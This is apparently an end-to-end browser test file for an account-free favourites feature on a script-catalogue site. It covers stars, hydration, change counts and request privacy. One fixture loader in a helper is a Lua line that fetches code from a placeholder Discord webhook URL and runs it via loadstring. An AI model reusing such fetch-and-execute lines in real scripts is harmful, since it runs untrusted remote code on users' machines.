import type { BrowserContext, Page, Request, Route } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { insertScript, insertScripts } from '../helpers/factories.ts';
import { expectNoSeriousViolations, loginAdmin, type Site, waitForHydration } from './harness.ts';
import { editLoader } from './staff.ts';
import { e2eSuite } from './suite.ts';

// Favourites without an account (docs/product.md#favourites): stars kept in this browser only, one
// clicked before hydration; /favourites lists them through one request; an admin's loader edit is
// counted in the header and marked on /favourites with a link to the history from the version seen.

type Stored = { id: number; seen: number }[];

const star = (page: Page, name: string) => page.getByRole('button', { name: `Favourite: ${name}`, exact: true });
const pressed = (page: Page, name: string) => star(page, name).getAttribute('aria-pressed');
const stored = (page: Page) => page.evaluate(() => JSON.parse(localStorage.getItem('favourites') ?? '[]') as Stored);
const favouritesLink = (page: Page) => page.getByRole('banner').locator('a[href="/favourites"]');
const listed = (page: Page) => page.getByRole('list', { name: 'Favourites' }).getByRole('heading').allTextContents();
const isIdsRequest = (request: Request) => new URL(request.url()).pathname === '/api/scripts/paginated' && new URL(request.url()).searchParams.has('ids');

/** Errors the pages of `context` report (a hydration mismatch among them), as they happen. */
function recordErrors(context: BrowserContext): string[] {
  const errors: string[] = [];
  const watch = (page: Page) => {
    page.on('pageerror', (error) => errors.push(error.message));
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
  };
  context.pages().forEach(watch);
  context.on('page', watch);
  return errors;
}

/** Every request the visitor's browser sends, to show that favourites leave it only as the ids of a GET. */
function recordRequests(context: BrowserContext): Request[] {
  const requests: Request[] = [];
  context.on('request', (request) => requests.push(request));
  return requests;
}

/** The admin edits the loader of script `id` through the staff API: its version goes up by one. */
async function loaderChanged(site: Pick<Site, 'url'>, id: number): Promise<void> {
  const loadstring = 'local hook = "https://discord.com/api/webhooks/1234567890/secret-token"\nloadstring(game:HttpGet(hook))()';
  await editLoader(site, await loginAdmin(site), id, loadstring);
}

describe('favourites in a real browser', () => {
  let early: { id: number };
  let later: { id: number };
  let beyond: { id: number };
  const suite = e2eSuite({
    arrange: async ({ site }) => {
      // The oldest script is the last card: it appears only with Load More (16 cards first).
      beyond = await insertScript(site.services, { playsname: 'Starred Beyond', createdAt: new Date(Date.UTC(2025, 0, 1)) });
      await insertScripts(site.services, 16, (i) => `Filler ${i}`);
      await insertScript(site.services, { playsname: 'Never Starred' });
      later = await insertScript(site.services, { playsname: 'Starred Later' });
      early = await insertScript(site.services, { playsname: 'Starred Early' });
    },
  });

  it('stars two scripts (one before hydration), lists them through one request, then counts, marks and clears the one whose loader changed', async () => {
    const context = await suite.context();
    const page = await context.newPage();
    const requests = recordRequests(context);
    const errors = recordErrors(context);

    // The app's modules are held: the page is its server HTML and the inline star handler only.
    const held: Route[] = [];
    let holding = true;
    await page.route('**/assets/**/*.js', (route) => (holding ? void held.push(route) : void route.continue()));
    await page.goto(`${suite.url}/scripts`, { waitUntil: 'commit' });
    await star(page, 'Starred Early').click();
    await expect.poll(() => pressed(page, 'Starred Early')).toBe('true');
    expect(await page.evaluate(() => document.documentElement.dataset.hydrated)).toBeUndefined();
    expect(await stored(page)).toEqual([{ id: early.id, seen: 1 }]);
    holding = false;
    for (const route of held.splice(0)) await route.continue();
    await waitForHydration(page);
    // Hydration leaves the pressed star as the handler set it.
    expect(await pressed(page, 'Starred Early')).toBe('true');
    expect(await pressed(page, 'Starred Later')).toBe('false');
    await expectNoSeriousViolations(page, 'the catalogue with its stars');

    // The second from its own page, reached from its card; unstarring works there too.
    await page.getByRole('article').filter({ has: page.getByRole('heading', { name: 'Starred Later' }) }).getByRole('link', { name: 'Get Script' }).click();
    await page.getByRole('heading', { level: 1, name: 'Starred Later' }).waitFor();
    await star(page, 'Starred Later').click();
    await expect.poll(() => pressed(page, 'Starred Later')).toBe('true');
    await star(page, 'Starred Later').click();
    await expect.poll(() => pressed(page, 'Starred Later')).toBe('false');
    await star(page, 'Starred Later').click();
    await expect.poll(() => pressed(page, 'Starred Later')).toBe('true');
    expect(await stored(page)).toEqual([
      { id: later.id, seen: 1 },
      { id: early.id, seen: 1 },
    ]);
    await expectNoSeriousViolations(page, 'the script page with its star', { pointerAway: true });

    // A reload keeps both.
    await page.goto(`${suite.url}/scripts`);
    await waitForHydration(page);
    expect(await pressed(page, 'Starred Early')).toBe('true');
    expect(await pressed(page, 'Starred Later')).toBe('true');
    expect(await pressed(page, 'Never Starred')).toBe('false');

    const before = requests.filter(isIdsRequest).length;
    await page.goto(`${suite.url}/favourites`);
    await waitForHydration(page);
    await expect.poll(() => listed(page)).toEqual(['Starred Later', 'Starred Early']);
    const asked = requests.filter(isIdsRequest).slice(before);
    expect(asked.map((request) => new URL(request.url()).searchParams.get('ids'))).toEqual([`${later.id},${early.id}`]);
    // Cards the page drew after hydration get their pressed state too.
    expect(await pressed(page, 'Starred Early')).toBe('true');
    expect(await page.getByText('Updated since you last looked').count()).toBe(0);
    expect(await favouritesLink(page).getAttribute('aria-label')).toBeNull();
    expect(await page.locator('meta[name="robots"]').getAttribute('content')).toBe('noindex');

    await loaderChanged(suite, early.id);

    // Another visit (a new tab: its own sessionStorage) learns of the change in the header.
    const tab = await context.newPage();
    const tabRequests = requests.length;
    await tab.goto(`${suite.url}/`);
    await waitForHydration(tab);
    await tab.getByRole('link', { name: 'Favourites, 1 changed' }).waitFor();
    expect(await favouritesLink(tab).getAttribute('data-count')).toBe('1');

    await tab.getByRole('link', { name: 'Favourites, 1 changed' }).click();
    await tab.getByRole('heading', { level: 1, name: 'Favourites' }).waitFor();
    const mark = tab.getByText('Updated since you last looked');
    await mark.waitFor();
    expect(await mark.count()).toBe(1);
    const history = tab.getByRole('link', { name: 'See what changed' });
    expect(await history.getAttribute('href')).toBe(`/scripts/${early.id}-starred-early#version-2`);
    // The header's request served the list too.
    expect(requests.slice(tabRequests).filter(isIdsRequest)).toHaveLength(1);
    await expectNoSeriousViolations(tab, 'the favourites with a changed one');

    // Opening it sees version 2: the mark and the count go.
    await history.click();
    await tab.getByRole('heading', { level: 1, name: 'Starred Early' }).waitFor();
    // The link lands on the update, which says what it added.
    await tab.waitForURL(/#version-2$/);
    await expect.poll(() => tab.locator('#version-2').innerText()).toContain('Adds a request to a Discord webhook');
    await expect.poll(async () => (await stored(tab)).find((item) => item.id === early.id)?.seen).toBe(2);
    await expect.poll(() => favouritesLink(tab).getAttribute('data-count')).toBeNull();
    expect(await favouritesLink(tab).getAttribute('aria-label')).toBeNull();
    await favouritesLink(tab).click();
    await expect.poll(() => listed(tab)).toEqual(['Starred Later', 'Starred Early']);
    expect(await tab.getByText('Updated since you last looked').count()).toBe(0);

    // Nothing of the favourites left the browser but the ids of those GETs.
    const sent = requests.filter((request) => request.method() !== 'GET' || request.postData() !== null);
    expect(sent.map((request) => `${request.method()} ${request.url()}`)).toEqual([]);
    const withIds = requests.filter((request) => request.url().includes(`${later.id},${early.id}`) || request.url().includes('favourites=') || request.url().includes('seen'));
    expect(withIds.every(isIdsRequest)).toBe(true);
    expect(withIds.length).toBeGreaterThan(0);
    // No page failed, nor did hydration find HTML it would not have drawn.
    expect(errors).toEqual([]);
  });

  it('marks a starred card that arrives with Load More, and a star toggled in another tab', async () => {
    const context = await suite.context();
    const page = await context.newPage();
    await page.goto(`${suite.url}/scripts`);
    await waitForHydration(page);
    await page.evaluate((id) => localStorage.setItem('favourites', JSON.stringify([{ id, seen: 1 }])), beyond.id);
    await page.getByRole('button', { name: 'Load More' }).click();
    await star(page, 'Starred Beyond').waitFor();
    await expect.poll(() => pressed(page, 'Starred Beyond')).toBe('true');

    const other = await context.newPage();
    await other.goto(`${suite.url}/scripts`);
    await waitForHydration(other);
    await star(other, 'Never Starred').click();
    await expect.poll(() => pressed(page, 'Never Starred')).toBe('true');
  });

  it('shows an empty state without favourites, says so when the browser keeps nothing, and stays out of the sitemap', async () => {
    const context = await suite.context();
    const page = await context.newPage();
    const requests = recordRequests(context);
    await page.goto(`${suite.url}/favourites`);
    await waitForHydration(page);
    await expect.poll(() => page.getByRole('status').textContent()).toContain('No favourites yet');
    // No favourites, no request (the header loads nothing either).
    expect(requests.filter(isIdsRequest)).toEqual([]);

    const blocked = await suite.context();
    await blocked.addInitScript(() => {
      Object.defineProperty(window, 'localStorage', {
        get() {
          throw new DOMException('blocked', 'SecurityError');
        },
      });
    });
    const blockedPage = await blocked.newPage();
    await blockedPage.goto(`${suite.url}/favourites`);
    await waitForHydration(blockedPage);
    await expect.poll(() => blockedPage.getByRole('status').textContent()).toContain('does not let the site keep favourites');
    await blocked.close();

    const sitemap = await (await fetch(`${suite.url}/sitemap.xml`)).text();
    expect(sitemap).not.toContain('/favourites');
  });
});
